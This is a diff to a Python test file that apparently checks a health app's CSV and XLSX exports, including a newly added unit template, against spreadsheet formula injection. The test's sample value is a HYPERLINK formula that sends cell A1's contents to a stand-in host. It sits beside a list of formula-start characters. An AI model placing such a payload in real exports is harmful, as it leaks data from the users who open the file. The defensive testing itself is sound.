@@ -13,12 +13,14 @@ import pytest
 from app.analysis.downloads import chart_table, csv_bytes, xlsx_bytes
 from db import (
     add_entry,
+    build_template,
     create_unit,
     export_file,
     find_indicator,
     make_engine,
     migrate,
     read_session,
+    set_unit_indicators,
     write_session,
 )
 from indicators import analyze
@@ -29,7 +31,8 @@ HOSTILE = '=HYPERLINK("https://ondt.example/?"&A1,"Klik")'
 # The files where Excel files are made; a new writer elsewhere must come through this test.
 # Excel runs a cell that starts with one of these as a formula (OWASP).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-WRITERS = {"app/analysis/downloads.py", "db/csv_files.py", "db/xlsx_files.py"}
+WRITERS = {"app/analysis/downloads.py", "db/csv_files.py", "db/import_templates.py",
+           "db/xlsx_files.py"}
 
 
 def chart_with_a_hostile_note():
@@ -55,6 +58,20 @@ def export_with_a_hostile_note(file_format):
     return content
 
 
+def template_of_a_hostile_unit():
+    engine = make_engine("sqlite://")
+    migrate(engine)
+    with write_session(engine) as session:
+        unit = create_unit(HOSTILE, kind="unit", parent_id=None, session=session,
+                           actor="system:test")
+        triage = find_indicator("triage_dagligt", session=session).id
+        set_unit_indicators(unit, [triage], session=session, actor="system:test")
+    with read_session(engine) as session:
+        content = build_template(unit, session=session, actor="system:test", today=TODAY)
+    engine.dispose()
+    return content
+
+
 DOWNLOADS = {
     "Diagrammer CSV (da)": lambda: ("csv;", csv_bytes(chart_with_a_hostile_note(), language="da")),
     "Diagrammer CSV (en)": lambda: ("csv,", csv_bytes(chart_with_a_hostile_note(), language="en")),
@@ -62,6 +79,7 @@ DOWNLOADS = {
     "export Danish CSV": lambda: ("csv;", export_with_a_hostile_note("danish-csv")),
     "export plain CSV": lambda: ("csv,", export_with_a_hostile_note("comma-csv")),
     "export XLSX": lambda: ("xlsx", export_with_a_hostile_note("xlsx")),
+    "unit template XLSX": lambda: ("xlsx", template_of_a_hostile_unit()),
 }
 
 
